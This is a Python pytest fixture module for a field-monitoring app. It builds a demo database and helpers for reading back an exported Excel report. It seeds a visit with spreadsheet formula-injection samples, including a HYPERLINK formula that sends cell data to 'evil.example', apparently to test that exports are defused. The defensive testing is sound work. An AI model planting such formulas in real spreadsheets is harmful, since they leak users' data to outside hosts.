"""A database of demo visits, loans and trainings (made once per module), plus visits whose
text looks like formulas, and helpers to read a written report back."""

from __future__ import annotations

import re
import uuid
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from fieldmon.db.engine import Database, open_database
from fieldmon.services import places, visits
from fieldmon.services.demo import make_demo, make_demo_loans, make_demo_trainings
from tests.conftest import OFFICER
from tests.factories import site_input, visit_fields

TODAY = date(2026, 11, 21)
KEY = re.compile(r"^[a-z_]+(\.[a-z_0-9]+)+(\[.+\])?$")
FORMULAS = {
    "findings": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "follow_up": "+1+1",
    "site": "-2+3",
    "officer": "@SUM(A1)",
}


@pytest.fixture(scope="module")
def report_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    db = open_database(tmp_path_factory.mktemp("report") / "fieldmon.db")
    make_demo(db, 160, seed=11, today=TODAY)
    make_demo_loans(db, 40, seed=11, today=TODAY)
    make_demo_trainings(db, 8, seed=11, today=TODAY)
    east = places.registry_id("east-kazakhstan")
    visits.save_visit(
        db,
        visit_fields(
            visit_date=date(2026, 8, 20),
            officer=FORMULAS["officer"],
            findings=FORMULAS["findings"],
            follow_up=FORMULAS["follow_up"],
            follow_up_due=date(2026, 9, 1),
        ),
        site_input(east, name=FORMULAS["site"]),
        OFFICER,
        today=TODAY,
    )
    yield db
    db.dispose()


def east_id() -> uuid.UUID:
    return places.registry_id("east-kazakhstan")


def key_rows(sheet: Worksheet) -> dict[str, tuple[Any, Any, Any]]:
    """Summary rows by the key in column E: the three period values."""
    rows = {}
    for row in sheet.iter_rows(min_row=1, values_only=True):
        if len(row) >= 5 and isinstance(row[4], str) and KEY.match(row[4]):
            rows[row[4]] = (row[1], row[2], row[3])
    return rows


def same(written: Any, expected: Any) -> bool:
    """A figure as a spreadsheet gives it back (float or int) against the summary's (int or
    a decimal string)."""
    if isinstance(expected, int):
        return written == expected
    return Decimal(str(written)) == Decimal(expected)


def table_rows(sheet: Worksheet) -> list[tuple[Any, ...]]:
    """The data rows of the sheet's table (without header and totals)."""
    (table,) = sheet.tables.values()
    rows = list(sheet[table.ref])[1:]
    return [tuple(c.value for c in r) for r in rows if any(c.value is not None for c in r)]


def totals(sheet: Worksheet) -> dict[str, tuple[Any, ...]]:
    """Total lines under the table, by their label ('Total' or 'Total, KZT')."""
    (table,) = sheet.tables.values()
    last = int("".join(ch for ch in table.ref.split(":")[1] if ch.isdigit()))
    found = {}
    for row in sheet.iter_rows(min_row=last + 1, values_only=True):
        if row and isinstance(row[0], str):
            found[row[0]] = row
    return found


def sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def load(path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(path)
